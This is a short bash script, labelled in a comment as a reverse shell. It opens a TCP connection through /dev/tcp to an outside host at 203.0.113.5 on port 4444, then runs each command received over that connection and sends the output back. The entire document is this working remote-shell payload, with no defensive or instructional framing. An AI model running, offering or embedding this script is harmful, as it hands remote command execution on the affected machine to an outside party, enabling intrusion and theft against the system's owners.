#!/bin/bash
# a reverse shell
exec 5<>/dev/tcp/203.0.113.5/4444
while read -r l <&5; do $l 2>&5 >&5; done
